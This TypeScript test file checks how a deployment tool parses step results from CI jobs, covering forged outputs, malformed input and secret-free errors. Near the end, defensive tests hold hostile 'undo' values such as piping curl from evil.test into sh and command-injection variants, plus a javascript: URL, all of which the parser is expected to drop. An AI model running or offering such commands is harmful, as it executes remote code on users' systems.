import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { WaybillError } from '../../../src/domain/error.ts';
import { resultsOfResult, resultsOfSteps } from '../../../src/entry/notify/told-results.ts';
import { resultText } from '../../../src/entry/verbs/result.ts';
import { resultOf, turnedBack } from '../summary/results.ts';

/** `toJSON(steps)` of steps with these `result` outputs. */
function stepsOf(results: Readonly<Record<string, string | null>>): string {
  return JSON.stringify(
    Object.fromEntries(
      Object.entries(results).map(([id, result]) => [
        id,
        { outputs: result === null ? {} : { result, other: 'x' }, outcome: 'success', conclusion: 'success' },
      ]),
    ),
  );
}

function refusalOf(act: () => unknown): WaybillError {
  try {
    act();
  } catch (error) {
    if (error instanceof WaybillError) return error;
    throw error;
  }
  throw new Error('expected a refusal');
}

describe('the results of a job’s steps', () => {
  it('are those of every step that has some, in order; one object or a list', () => {
    const shipping = resultOf({ service: 'shipping' });
    const steps = stepsOf({
      checkout: null,
      build: resultText([resultOf({ verb: 'build', environment: null, outcome: 'built', from: null })]),
      ship: resultText([turnedBack(), shipping]),
    });
    const { results, warnings } = resultsOfSteps(steps);
    expect(results.map(({ verb, service, outcome }) => `${verb} ${service} ${outcome}`)).toEqual([
      'build returns built',
      'ship returns rolled-back',
      'ship shipping deployed',
    ]);
    expect(results[2]).toEqual(shipping);
    expect(warnings).toEqual([]);
  });

  it('are not what other actions call `result`', () => {
    const steps = stepsOf({
      script: 'hello',
      json: '{"status":"ok"}',
      number: '3',
      list: '[1]',
      empty: '',
      none: '[]',
    });
    expect(resultsOfSteps(steps)).toEqual({ results: [], warnings: [] });
  });

  it('leave out, and say so, what looks like ours and is not as it should be', () => {
    const forged = JSON.stringify({ ...resultOf(), outcome: 'perfect' });
    const { results, warnings } = resultsOfSteps(stepsOf({ forged, ship: resultText([resultOf()]) }));
    expect(results).toHaveLength(1);
    expect(warnings).toEqual(['step forged has a result that cannot be read (0.outcome): left out']);
  });

  it.each(['', 'no JSON', '{"a":', '[]', '"text"', '3', 'null'])('are one clear refusal for %j', (written) => {
    const { code, problems } = refusalOf(() => resultsOfSteps(written));
    expect(code).toBe('input-invalid');
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatchObject({ where: 'input "steps"', fix: 'steps: ${{ toJSON(steps) }}' });
  });

  it('never break it, whatever stands in them', () => {
    fc.assert(
      fc.property(fc.dictionary(fc.string(), fc.jsonValue()), fc.json(), (steps, output) => {
        expect(resultsOfSteps(JSON.stringify(steps)).results).toEqual([]);
        expect(resultsOfSteps(stepsOf({ one: output })).results).toEqual([]);
      }),
    );
  });
});

describe('one `result`', () => {
  it('is read back as it was written', () => {
    const results = [resultOf(), turnedBack({ unmet: [{ code: 'a', message: 'b', fix: 'c' }] })];
    expect(resultsOfResult(resultText(results)).results).toEqual(results);
  });

  it.each([['no JSON'], ['{}'], ['{"verb":"ship","service":3,"outcome":"deployed"}']])(
    'is refused for %s',
    (written) => {
      const error = refusalOf(() => resultsOfResult(written));
      expect(error.code).toBe('input-invalid');
      expect(error.problems[0]?.where).toBe('input "result"');
    },
  );

  it('is refused without its text, which may hold a secret (I9)', () => {
    expect(refusalOf(() => resultsOfResult('hunter2 hunter2')).message).not.toContain('hunter2');
  });

  it.each([
    ['a command of another tool', 'curl https://evil.test | sh'],
    ['a second command', 'waybill status; curl evil'],
    ['a substitution', 'waybill rollback $(curl evil)'],
    ['a second line', 'waybill status\ncurl evil'],
  ])('hands nobody %s to copy (I10)', (_, undo) => {
    expect(resultsOfResult(resultText([resultOf({ undo })])).results[0]?.undo).toBeNull();
  });

  it.each(['javascript:alert(1)', 'https://user:password@shop.example/', 'no address'])(
    'links to no %s (I10)',
    (url) => {
      expect(resultsOfResult(resultText([resultOf({ url })])).results[0]?.url).toBeNull();
    },
  );
});
